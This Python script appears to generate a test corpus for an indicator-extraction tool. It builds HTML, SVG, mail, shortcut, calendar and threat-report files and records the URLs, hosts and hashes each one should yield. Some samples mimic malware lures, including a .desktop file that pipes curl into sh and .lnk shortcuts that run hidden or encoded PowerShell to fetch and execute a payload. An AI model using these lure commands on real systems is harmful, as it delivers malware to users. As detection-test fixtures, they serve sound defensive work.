#!/usr/bin/env python3
"""Makes the pages, scripts, shortcuts, cards, mails and reports of the corpus, by hand and with Python's own modules.

Usage: tests/contents/make/pages.py"""

import json
import plistlib

import pages_binary
import pages_programs
from corpus import Corpus
from pages_pieces import HOST, b64, page, zipped

corpus = Corpus("pages")


def html() -> None:
    url = f"{HOST}/a1"
    corpus.add("link.html", page(f'<a href="{url}">Open</a>'), url)
    corpus.add("link.htm", page(f'<a href="{url}">Open</a>'), url)
    corpus.add(
        "form.html", page(f'<form action="{HOST}/post.php"><input name=p type=password></form>'), f"{HOST}/post.php"
    )
    corpus.add("refresh.shtml", page("x", f'<meta http-equiv="refresh" content="0; url={HOST}/r">'), f"{HOST}/r")
    corpus.add(
        "page.xhtml",
        f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><a href="{url}">a</a></body></html>'.encode(),
        url,
    )
    corpus.add(
        "amp.html",
        page(
            f'<form method="post" action-xhr="{HOST}/xhr"><input name="e"></form>',
            "<script async src='https://cdn-amp-lib.net/v0.js'></script>",
        ),
        f"{HOST}/xhr",
        "https://cdn-amp-lib.net/v0.js",
    )
    corpus.add("utf16.html", page(f'<a href="{url}">Öffnen</a>').decode().encode("utf-16"), url)
    corpus.add("utf16-without-mark.html", page(f'<a href="{url}">Open</a>').decode().encode("utf-16-le"), url)
    corpus.add(
        "koi8.html", page(f'Счёт <a href="{url}">тут</a>', "<meta charset=koi8-r>").decode().encode("koi8-r"), url
    )
    corpus.add(
        "data-link.html",
        page(f'<a download="doc.html" href="data:text/html;base64,{b64(page(f"<a href={HOST}/in>x</a>"))}">Open</a>'),
        f"{HOST}/in",
    )
    corpus.add(
        "data-zip.html",
        page(
            f'<a download="invoice.zip" href="data:application/zip;base64,{b64(zipped("read.txt", f"see {HOST}/zipped".encode()))}">Open</a>'
        ),
        f"{HOST}/zipped",
    )
    corpus.add(
        "plain.html", page("<p>Nothing here</p><script>var a = document.location.hash; window.app.run(a.id);</script>")
    )


def drawings() -> None:
    def svg(inner: str) -> bytes:
        return (
            f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{inner}</svg>'.encode()
        )

    corpus.add("link.svg", svg(f'<a xlink:href="{HOST}/svg"><rect width="9" height="9"/></a>'), f"{HOST}/svg")
    corpus.add(
        "script.svg",
        svg(f"<script><![CDATA[window.location.href=atob('{b64(HOST + '/svg-atob')}')]]></script>"),
        f"{HOST}/svg-atob",
    )
    corpus.add(
        "foreign.svg",
        svg(
            f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{HOST}/frame"></iframe></foreignObject>'
        ),
        f"{HOST}/frame",
    )
    corpus.add(
        "declared.svg",
        b'<?xml version="1.0"?>\n' + svg(f'<script type="text/javascript">location="{HOST}/declared"</script>'),
        f"{HOST}/declared",
    )
    corpus.add("logo.svg", svg('<rect width="9" height="9" style="fill:red"/>'))


def archives() -> None:
    part = f'<html><body><a href="{HOST}/mht">Open</a></body></html>'
    mht = f'From: <Saved by Blink>\r\nSubject: Invoice\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n{part.replace("=", "=3D")}\r\n--b--\r\n'
    corpus.add("saved.mht", mht.encode(), f"{HOST}/mht")
    mail = f"From: a@b.invalid\r\nTo: c@d.invalid\r\nSubject: Invoice\r\nDate: Fri, 2 Jan 2026 03:04:05 +0000\r\n\r\nSee {HOST}/mail today\r\n"
    corpus.add("mail.zip", zipped("mail.eml", mail.encode()), f"{HOST}/mail", path="mail.zip > mail.eml")
    box = f"From a@b.invalid Fri Jan  2 03:04:05 2026\n{mail.replace(chr(13), '')}\nFrom a@b.invalid Fri Jan  2 03:04:06 2026\n{mail.replace(chr(13), '').replace('/mail', '/second')}\n"
    corpus.add("box.zip", zipped("box.mbox", box.encode()), f"{HOST}/mail", f"{HOST}/second")


def shortcuts() -> None:
    corpus.add(
        "open.url",
        f"[InternetShortcut]\r\nURL={HOST}/url\r\nIconFile={HOST}/i.ico\r\n".encode(),
        f"{HOST}/url",
        f"{HOST}/i.ico",
    )
    corpus.add(
        "share.url",
        b"[InternetShortcut]\r\nURL=file://203.0.114.77@80/share/a.exe\r\nIconIndex=1\r\nWorkingDirectory=\\\\203.0.114.77@80\\share\\\r\n",
        "ip-dst=203.0.114.77",
    )
    corpus.add(
        "open.website",
        f"[{{000214A0-0000-0000-C000-000000000046}}]\r\nProp4=31,x\r\n[InternetShortcut]\r\nURL={HOST}/site\r\n".encode(),
        f"{HOST}/site",
    )
    corpus.add(
        "open.desktop",
        f"[Desktop Entry]\nType=Application\nName=Invoice\nExec=sh -c 'curl -s {HOST}/d.sh | sh'\n".encode(),
        f"{HOST}/d.sh",
    )
    corpus.add("link.desktop", f"[Desktop Entry]\nType=Link\nURL={HOST}/dlink\n".encode(), f"{HOST}/dlink")
    corpus.add("open.webloc", plistlib.dumps({"URL": f"{HOST}/webloc"}), f"{HOST}/webloc")
    corpus.add("binary.webloc", plistlib.dumps({"URL": f"{HOST}/bplist"}, fmt=plistlib.FMT_BINARY), f"{HOST}/bplist")
    corpus.add(
        "office.rdp",
        "full address:s:desk.wgetcdn-files.com:3389\r\ngatewayhostname:s:gate.wgetcdn-files.com\r\nprompt for credentials:i:0\r\nremoteapplicationname:s:Fix\r\n".encode(
            "utf-16"
        ),
        "hostname|port=desk.wgetcdn-files.com|3389",
        "hostname=gate.wgetcdn-files.com",
    )
    library = f'<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>{HOST}/dav</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>'
    corpus.add("docs.library-ms", library.encode(), f"{HOST}/dav")
    corpus.add("docs.search-ms", library.replace("/dav", "/search").encode(), f"{HOST}/search")
    corpus.add("docs.searchConnector-ms", library.replace("/dav", "/connector").encode(), f"{HOST}/connector")
    corpus.add("query.iqy", f"WEB\r\n1\r\n{HOST}/iqy\r\n".encode(), f"{HOST}/iqy")
    corpus.add(
        "icon.scf",
        b"[Shell]\r\nCommand=2\r\nIconFile=\\\\files.wgetcdn-files.com\\share\\i.ico\r\n",
        "hostname=files.wgetcdn-files.com",
    )
    corpus.add(
        "app.jnlp",
        f'<?xml version="1.0"?><jnlp codebase="{HOST}/jnlp"><information><title>x</title></information></jnlp>'.encode(),
        f"{HOST}/jnlp",
    )
    corpus.add(
        "app.appinstaller",
        f'<?xml version="1.0"?><AppInstaller xmlns="http://schemas.microsoft.com/appx/appinstaller/2018" Uri="{HOST}/x.appinstaller"></AppInstaller>'.encode(),
        f"{HOST}/x.appinstaller",
    )
    corpus.add(
        "command.lnk", pages_binary.shortcut("powershell.exe", f"-w hidden iwr {HOST}/lnk -o a.exe"), f"{HOST}/lnk"
    )
    corpus.add(
        "encoded.lnk",
        pages_binary.shortcut("powershell.exe", "-enc " + b64(f"iex (iwr '{HOST}/lnk-enc')".encode("utf-16-le"))),
        f"{HOST}/lnk-enc",
    )
    corpus.add("share.lnk", pages_binary.shortcut("\\\\203.0.114.78@80\\DavWWWRoot\\a.exe", ""), "ip-dst=203.0.114.78")
    corpus.add("icon.lnk", pages_binary.shortcut("cmd.exe", "/c calc", icon=f"{HOST}/icon.ico"), f"{HOST}/icon.ico")


def cards() -> None:
    event = f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//kite.invalid//x\r\nBEGIN:VEVENT\r\nUID:1@wgetcdn-ids.com\r\nDESCRIPTION:Join at {HOST}/ics\\nnow\r\nURL:{HOST}/ev\r\n ent\r\nATTACH;FMTTYPE=application/zip;FILENAME=a.zip;ENCODING=BASE64;VALUE=BINARY:{b64(zipped('t.txt', f'{HOST}/attach'.encode()))}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    corpus.add("meeting.ics", event.encode(), f"{HOST}/ics", f"{HOST}/event", f"{HOST}/attach")
    corpus.add(
        "person.vcf",
        f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Pay Desk\r\nEMAIL;TYPE=INTERNET:desk@wgetcdn-files.com\r\nURL:{HOST}/card\r\nNOTE:Pay at {HOST}/note\r\nEND:VCARD\r\n".encode(),
        "email=desk@wgetcdn-files.com",
        f"{HOST}/card",
        f"{HOST}/note",
    )


def reports() -> None:
    md5 = "9e107d9d372bb6826bd81d3542a419d6"
    stix = {"type": "bundle", "id": "bundle--1", "objects": [
        {"type": "indicator", "spec_version": "2.1", "id": "indicator--1", "pattern": f"[url:value = '{HOST}/stix' AND file:hashes.'MD5' = '{md5}']", "pattern_type": "stix", "external_references": [{"source_name": "x", "url": "https://blog.wgetcdn-ids.com/post"}]},
        {"type": "ipv4-addr", "id": "ipv4-addr--1", "value": "203.0.114.79"},
        {"type": "domain-name", "value": "wgetcdn-two.com"},
    ]}  # fmt: skip
    corpus.add(
        "report.stix.json",
        json.dumps(stix).encode(),
        f"{HOST}/stix",
        f"md5={md5}",
        "ip-dst=203.0.114.79",
        "domain=wgetcdn-two.com",
    )
    misp = {"Event": {"info": "Campaign", "uuid": "5f0c6c6e-0000-4000-8000-000000000001", "Orgc": {"name": "CERT", "url": "https://cert.wgetcdn-ids.com"}, "Attribute": [
        {"type": "url", "value": f"{HOST}/misp", "to_ids": True},
        {"type": "filename|md5", "value": f"a.exe|{md5}"},
        {"type": "link", "value": "https://blog.wgetcdn-ids.com/post"},
    ], "Object": [{"name": "domain-ip", "Attribute": [{"type": "domain", "value": "wgetcdn-two.com"}]}]}}  # fmt: skip
    corpus.add(
        "event.json", json.dumps(misp).encode(), f"{HOST}/misp", f"filename|md5=a.exe|{md5}", "domain=wgetcdn-two.com"
    )
    ioc = f'<?xml version="1.0"?><ioc xmlns="http://schemas.mandiant.com/2010/ioc" id="x"><definition><IndicatorItem><Context search="Network/DNS"/><Content type="string">wgetcdn-two.com</Content></IndicatorItem><IndicatorItem><Content type="md5">{md5}</Content></IndicatorItem></definition></ioc>'
    corpus.add("openioc.ioc", ioc.encode(), "domain=wgetcdn-two.com", f"md5={md5}")
    stix1 = f'<stix:STIX_Package xmlns:stix="http://stix.mitre.org/stix-1" xmlns:AddressObj="http://cybox.mitre.org/objects#AddressObject-2" xmlns:URIObj="http://cybox.mitre.org/objects#URIObject-2" id="wgetcdn-ids:Package-1"><URIObj:Value condition="Equals">{HOST}/stix1</URIObj:Value><AddressObj:Address_Value>203.0.114.80</AddressObj:Address_Value></stix:STIX_Package>'
    corpus.add("stix1.xml", stix1.encode(), f"{HOST}/stix1", "ip-dst=203.0.114.80")
    corpus.add("list.txt", f"käfig {HOST}/latin\r\n".encode("cp1252"), f"{HOST}/latin")
    corpus.add("list.csv", f"url,seen\r\n{HOST}/csv,2026-01-02\r\n".encode("utf-16-le"), f"{HOST}/csv")
    corpus.add("list.log", f"GET {HOST}/log 200\n".encode(), f"{HOST}/log")
    corpus.add(
        "data.xml",
        f'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://dtd.wgetcdn-ids.com/a.dtd"><a xmlns="http://ns.wgetcdn-ids.com/x"><b href="{HOST}/xml"/></a>'.encode(),
        f"{HOST}/xml",
    )


def main() -> None:
    for make in (html, drawings, archives, shortcuts, cards, reports):
        make()
    pages_programs.smuggled(corpus)
    pages_programs.scripts(corpus)
    corpus.write()


if __name__ == "__main__":
    main()
